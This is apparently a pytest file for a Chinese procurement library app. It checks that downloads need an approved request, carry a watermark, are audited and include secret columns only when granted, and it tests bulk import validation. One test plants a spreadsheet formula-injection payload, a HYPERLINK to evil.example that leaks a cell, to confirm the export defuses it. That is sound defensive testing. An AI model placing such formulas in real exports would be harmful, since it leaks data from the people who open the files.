"""Downloads only after an approved request (watermarked, audited); bulk imports with reports."""

from __future__ import annotations

import asyncio
import csv
import io

import httpx
import pytest
from litestar import Litestar
from openpyxl import Workbook, load_workbook

from core.audit.tables import AuditEntry
from core.libraries.imports import COLUMNS
from core.libraries.subjects.tables import Subject
from tests.libraries.helpers import credit_code, library_manager, registration
from tests.tenants.helpers import hq_people, main_client_as


async def decide(app: Litestar, request_id: int, decision: str = "approve") -> None:
    people = await hq_people(app)
    admin = await main_client_as(app, people["admin"])  # hq_admin decides data downloads
    try:
        response = await admin.post(
            f"/api/approvals/{request_id}/decision",
            json={"decision": decision, "deficiencies": [{"item": "purpose", "problem": "含糊"}]},
        )
        assert response.status_code == 200, response.text
    finally:
        await admin.aclose()


async def wait_for(client: httpx.AsyncClient, job_id: int) -> dict:
    for _ in range(200):
        job = (await client.get(f"/api/library/imports/{job_id}")).json()
        if job["state"] in ("done", "failed"):
            return job
        await asyncio.sleep(0.05)
    raise AssertionError(f"import {job_id} did not finish: {job}")


@pytest.mark.asyncio
async def test_export_needs_an_approved_request_and_carries_its_watermark(app: Litestar) -> None:
    manager, client = await library_manager(app)
    try:
        formula = '=HYPERLINK("https://evil.example/?"&H3,"点击")'
        created = await client.post(
            "/api/library/suppliers", json=registration(credit_code(), name=formula)
        )
        assert created.status_code == 201
        refused = await client.post(
            "/api/library/downloads",
            json={"dataset": "suppliers", "format": "csv", "purpose": "short"},
        )
        assert refused.status_code == 400  # a purpose is stated, in full
        wrong_secret = await client.post(
            "/api/library/downloads",
            json={
                "dataset": "suppliers",
                "format": "csv",
                "purpose": "核对供应商库与原系统数据的一致性",
                "secret_fields": ["password"],
            },
        )
        assert wrong_secret.status_code == 400
        asked = await client.post(
            "/api/library/downloads",
            json={
                "dataset": "suppliers",
                "format": "csv",
                "purpose": "核对供应商库与原系统数据的一致性",
            },
        )
        assert asked.status_code == 201, asked.text
        request_id = asked.json()["id"]
        early = await client.get(f"/api/library/downloads/{request_id}/file")
        assert early.status_code == 400 and "批准" in early.json()["error"]
        own = await client.post(
            f"/api/approvals/{request_id}/decision", json={"decision": "approve"}
        )
        assert own.status_code == 403  # no one decides their own request, nor a library manager

        await decide(app, request_id)
        got = await client.get(f"/api/library/downloads/{request_id}/file")
        assert got.status_code == 200, got.text
        text = got.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        assert manager.username in rows[0][0] and f"#{request_id}" in rows[0][0]
        assert manager.username in rows[-1][0]
        assert "联系电话 / phone" not in rows[1]  # secret columns left out: not granted
        assert "sales@example.cn" not in text
        assert "'=HYPERLINK" in text  # a supplier's name is never a live formula
        entries = await AuditEntry.select(AuditEntry.action, AuditEntry.actor_id).where(
            AuditEntry.object == f"approval:{request_id}"
        )
        assert {"action": "library.download.suppliers", "actor_id": manager.account_id} in entries
    finally:
        await client.aclose()


@pytest.mark.asyncio
async def test_secret_columns_come_only_when_granted_by_name_in_xlsx(app: Litestar) -> None:
    manager, client = await library_manager(app)
    try:
        await client.post("/api/library/suppliers", json=registration(credit_code()))
        asked = await client.post(
            "/api/library/downloads",
            json={
                "dataset": "suppliers",
                "format": "xlsx",
                "purpose": "向供应商发送系统升级通知，需要联系邮箱",
                "secret_fields": ["contact_email"],
            },
        )
        await decide(app, asked.json()["id"])
        got = await client.get(f"/api/library/downloads/{asked.json()['id']}/file")
        assert got.status_code == 200
        workbook = load_workbook(io.BytesIO(got.content))
        sheet = workbook.worksheets[0]
        assert manager.username in str(sheet["A1"].value)
        assert manager.username in workbook.properties.description
        header = [c.value for c in sheet[2]]
        assert "电子邮箱 / e-mail" in header and "联系电话 / phone" not in header
    finally:
        await client.aclose()


@pytest.mark.asyncio
async def test_another_persons_approved_request_is_not_yours(app: Litestar) -> None:
    _, owner = await library_manager(app)
    _, other = await library_manager(app)
    try:
        asked = await owner.post(
            "/api/library/downloads",
            json={"dataset": "agencies", "format": "csv", "purpose": "年度代理机构名录整理"},
        )
        await decide(app, asked.json()["id"])
        stolen = await other.get(f"/api/library/downloads/{asked.json()['id']}/file")
        assert stolen.status_code == 404
        refused = await owner.post(
            "/api/library/downloads",
            json={"dataset": "agencies", "format": "csv", "purpose": "用途待补充说明的申请"},
        )
        await decide(app, refused.json()["id"], "reject")
        assert (
            await owner.get(f"/api/library/downloads/{refused.json()['id']}/file")
        ).status_code == 400
    finally:
        await owner.aclose()
        await other.aclose()


def csv_file(rows: list[dict[str, str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(COLUMNS))
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode()


def legacy_row(code: str, **changes: str) -> dict[str, str]:
    profile = registration(code)["profile"]
    return {**profile, **changes}  # type: ignore[dict-item]


@pytest.mark.asyncio
async def test_a_bad_row_imports_nothing_in_strict_mode_and_is_reported(app: Litestar) -> None:
    _, client = await library_manager(app)
    good = [credit_code() for _ in range(3)]
    rows = [
        legacy_row(good[0]),
        legacy_row(good[1][:-1] + ("0" if good[1][-1] != "0" else "1")),  # bad check character
        legacy_row(good[2], region_code="999999"),
        legacy_row(good[0]),  # repeats line 2
        legacy_row(credit_code(), contact_phone="电话"),
    ]
    try:
        files = {"file": ("legacy.csv", csv_file(rows), "text/csv")}
        started = await client.post("/api/library/imports", data={"kind": "supplier"}, files=files)
        assert started.status_code == 202, started.text
        job = await wait_for(client, started.json()["id"])
        assert job["state"] == "failed" and job["imported"] == 0
        assert [(e["row"], e["field"]) for e in job["errors"]] == [
            (3, "credit_code"),
            (4, "region_code"),
            (5, "credit_code"),
            (6, "contact_phone"),
        ]
        assert await Subject.count().where(Subject.credit_code == good[0]) == 0

        page = await client.get(f"/admin/imports/{job['id']}")
        assert page.status_code == 200 and "所在地区" in page.text, page.text  # the field in words
        assert "「联系电话」填写不正确" in page.text and "Expected" not in page.text

        lenient = await client.post(
            "/api/library/imports",
            data={"kind": "supplier", "strict": "false"},
            files={"file": ("legacy.csv", csv_file(rows), "text/csv")},
        )
        job = await wait_for(client, lenient.json()["id"])
        assert job["state"] == "done" and job["imported"] == 1
        assert await Subject.count().where(Subject.credit_code == good[0]) == 1
    finally:
        await client.aclose()


@pytest.mark.asyncio
async def test_an_import_carries_the_controlling_shareholder_checked(app: Litestar) -> None:
    _, client = await library_manager(app)
    code, holder = credit_code(), credit_code()
    bad = holder[:-1] + ("0" if holder[-1] != "0" else "1")
    named = {"controlling_shareholder": "山东控股集团有限公司"}
    rows = [
        legacy_row(code, **named, controlling_shareholder_code=holder),
        legacy_row(credit_code(), **named, controlling_shareholder_code=bad),
    ]
    try:
        started = await client.post(
            "/api/library/imports",
            data={"kind": "supplier", "strict": "false"},
            files={"file": ("legacy.csv", csv_file(rows), "text/csv")},
        )
        job = await wait_for(client, started.json()["id"])
        assert job["imported"] == 1, job
        assert [(e["row"], e["field"]) for e in job["errors"]] == [
            (3, "controlling_shareholder_code")
        ]
        stored = await Subject.select(
            Subject.controlling_shareholder, Subject.controlling_shareholder_code
        ).where(Subject.credit_code == code)
        assert stored == [
            {
                "controlling_shareholder": "山东控股集团有限公司",
                "controlling_shareholder_code": holder,
            }
        ]
    finally:
        await client.aclose()


@pytest.mark.asyncio
async def test_a_dry_run_of_an_xlsx_file_validates_and_writes_nothing(app: Litestar) -> None:
    _, client = await library_manager(app)
    code = credit_code()
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(COLUMNS))
    sheet.append([legacy_row(code).get(c, "") for c in COLUMNS])  # optional ones empty
    buffer = io.BytesIO()
    workbook.save(buffer)
    try:
        started = await client.post(
            "/api/library/imports",
            data={"kind": "agency", "dry_run": "true"},
            files={"file": ("legacy.xlsx", buffer.getvalue(), "application/octet-stream")},
        )
        job = await wait_for(client, started.json()["id"])
        assert job["state"] == "done" and job["errors"] == [] and job["total"] == 1
        assert (
            job["imported"] == 0 and await Subject.count().where(Subject.credit_code == code) == 0
        )
        no_header = await client.post(
            "/api/library/imports",
            data={"kind": "agency"},
            files={"file": ("x.csv", b"a,b\n1,2\n", "text/csv")},
        )
        assert no_header.status_code == 400 and "credit_code" in no_header.text
    finally:
        await client.aclose()


@pytest.mark.asyncio
async def test_expert_identities_are_exported_only_to_library_managers_who_were_granted_them(
    app: Litestar,
) -> None:
    from tests.libraries.test_experts import register
    from tests.portal.helpers import close, new_site

    _, manager = await library_manager(app)
    site = await new_site(app, "专家导出测试分平台")
    try:
        code, form = await register(manager)
        purpose = "专家库年度复核，核对身份信息"
        from_tenant = await site.client.post(
            "/api/library/downloads",
            json={
                "dataset": "experts",
                "format": "csv",
                "purpose": purpose,
                "secret_fields": ["name"],
            },
        )
        assert from_tenant.status_code == 403
        plain = await site.client.post(
            "/api/library/downloads",
            json={"dataset": "experts", "format": "csv", "purpose": purpose},
        )
        await decide(app, plain.json()["id"])
        text = (await site.client.get(f"/api/library/downloads/{plain.json()['id']}/file")).text
        assert code in text and form["name"] not in text and form["id_number"] not in text

        granted = await manager.post(
            "/api/library/downloads",
            json={
                "dataset": "experts",
                "format": "csv",
                "purpose": purpose,
                "secret_fields": ["name", "id_number"],
            },
        )
        await decide(app, granted.json()["id"])
        text = (await manager.get(f"/api/library/downloads/{granted.json()['id']}/file")).text
        assert form["name"] in text and form["id_number"] in text and form["phone"] not in text
    finally:
        await manager.aclose()
        await close(site)
